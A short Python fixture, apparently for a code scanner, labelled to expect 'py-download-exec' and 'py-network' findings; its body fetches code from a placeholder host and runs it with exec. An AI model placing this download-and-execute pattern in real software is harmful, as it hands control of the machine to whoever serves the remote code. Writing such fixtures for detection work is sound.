# expect: py-download-exec,py-network
from urllib.request import urlopen
with urlopen('http://x.example/s') as r:
    code = r.read()
exec(code)
